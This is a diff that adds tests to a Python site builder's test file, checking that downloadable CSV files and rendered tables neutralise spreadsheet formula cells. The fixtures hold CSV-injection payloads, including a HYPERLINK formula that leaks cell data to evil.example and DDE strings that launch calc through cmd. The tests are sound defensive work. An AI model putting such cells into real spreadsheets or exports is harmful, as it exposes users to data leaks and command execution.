@@ -21,7 +21,15 @@ from PIL import Image
 
 from campaign import BuildFailed
 from conftest import AXE, AXE_TAGS, AXE_VIOLATIONS_JS, build, require_tool
-from infographics.data import chart_spec, parse_number, parse_table
+from infographics.data import (
+    chart_spec,
+    csv_download,
+    is_formula,
+    neutralise_cell,
+    neutralise_csv,
+    parse_number,
+    parse_table,
+)
 from infographics.embed import embedded_slugs, replace_embeds
 from infographics.images import Job, plan_renditions, run_jobs
 from infographics.settings import load
@@ -165,6 +173,135 @@ def test_numbers_and_chart_scale() -> None:
     assert counts.scale_max == 650.0
     with pytest.raises(ValueError, match="row 2, column 2"):
         chart_spec(parse_table("A,B\nx,many\n"), "T", "F")
+
+
+#: OWASP's CSV-injection payloads and their kin: every one must reach the
+#: spreadsheet as text.
+FORMULA_CELLS = (
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    '"=1+1',
+    "\uff1d1+1",
+    "\uff0bcmd|' /C calc'!A0",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+    "-",
+    "+",
+    "=",
+    "-1+2",
+    "--5",
+)
+PLAIN_CELLS = (
+    "-5",
+    "+3.2",
+    "-1,350,000",
+    "-12%",
+    "1.5e3",
+    " -7 ",
+    "Good care",
+    "69%",
+    "",
+    "'=already text",
+    "a=b",
+    "x@y.org",
+    "1-2",
+)
+
+
+def test_formula_cells_are_neutralised() -> None:
+    for cell in FORMULA_CELLS:
+        assert is_formula(cell), cell
+        assert neutralise_cell(cell) == "'" + cell
+    for cell in PLAIN_CELLS:
+        assert not is_formula(cell), cell
+        assert neutralise_cell(cell) == cell
+
+
+def test_a_csv_file_with_formulas_is_rewritten_quoted() -> None:
+    clean = "Answer,Percent\r\nGood care,-5\r\n"
+    assert neutralise_csv(clean) == (clean, 0)
+    text, changed = neutralise_csv(
+        'Answer,Percent\n"=HYPERLINK(""https://evil.example"",""x"")",69%\n'
+        "@SUM(1+1),-5\n"
+        '"Yes, mostly",+3.2\n'
+    )
+    assert changed == 2
+    assert text == (
+        "Answer,Percent\n"
+        '"\'=HYPERLINK(""https://evil.example"",""x"")",69%\n'
+        '"\'@SUM(1+1)",-5\n'
+        '"Yes, mostly",+3.2\n'
+    )
+    rows = parse_table(text).rows
+    assert rows[0][0] == '\'=HYPERLINK("https://evil.example","x")'
+    assert [row[1] for row in rows] == ["69%", "-5", "+3.2"]
+    data, changed = csv_download(b"\xef\xbb\xbfA,B\r\n+cmd,1\r\n")
+    assert (data, changed) == (b'\xef\xbb\xbfA,B\r\n"\'+cmd",1\r\n', 1)
+    assert csv_download(b"A,B\nx,-1\n") == (b"A,B\nx,-1\n", 0)
+
+
+HOSTILE_CSV = (
+    "Answer,Percent\n"
+    '"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",10\n'
+    "+cmd|' /C calc'!A0,20\n"
+    "@SUM(1+1),-5\n"
+    "Plain,+3.2\n"
+)
+
+
+def test_the_csv_download_is_neutralised_and_the_page_says_so(
+    tmp_path: Path,
+) -> None:
+    write(
+        tmp_path / "content",
+        {
+            "infographics/hostile.csv": HOSTILE_CSV,
+            "infographics/hostile.png": png(400, 300),
+            "infographics/hostile.md": meta(
+                title="Hostile",
+                date="2020-01-01",
+                survey="S",
+                image="hostile.png",
+                data="hostile.csv",
+                alt="x",
+            ),
+            "infographics/clean.csv": "Answer,Percent\nx,5\n",
+            "infographics/clean.md": meta(
+                title="Clean", date="2020-01-02", survey="S", data="clean.csv", alt="y"
+            ),
+        },
+    )
+    site = build(tmp_path / "content", tmp_path / "output")
+    written = site / FILES / "hostile" / "hostile.csv"
+    assert written.read_text(encoding="utf-8") == (
+        "Answer,Percent\n"
+        '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",10\n'
+        "\"'+cmd|' /C calc'!A0\",20\n"
+        '"\'@SUM(1+1)",-5\n'
+        "Plain,+3.2\n"
+    )
+    page = soup(site / "infographics" / "hostile.html")
+    item = page.select(".infographic-downloads li")[-1]
+    text = " ".join(item.get_text().split())
+    assert f"(CSV, {written.stat().st_size} Bytes)" in text
+    assert "Cells that would run as spreadsheet formulas start with '" in text
+    # The table on the page shows the figures as written, escaped as text.
+    cells = [td.get_text() for td in page.select("table.infographic-data tbody th")]
+    assert cells[:3] == [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+    ]
+    clean = site / FILES / "clean" / "clean.csv"
+    assert clean.read_text(encoding="utf-8") == "Answer,Percent\nx,5\n"
+    clean_page = soup(site / "infographics" / "clean.html")
+    assert "formulas" not in clean_page.select_one(".infographic-downloads").get_text()
 
 
 def test_embed_syntax() -> None:
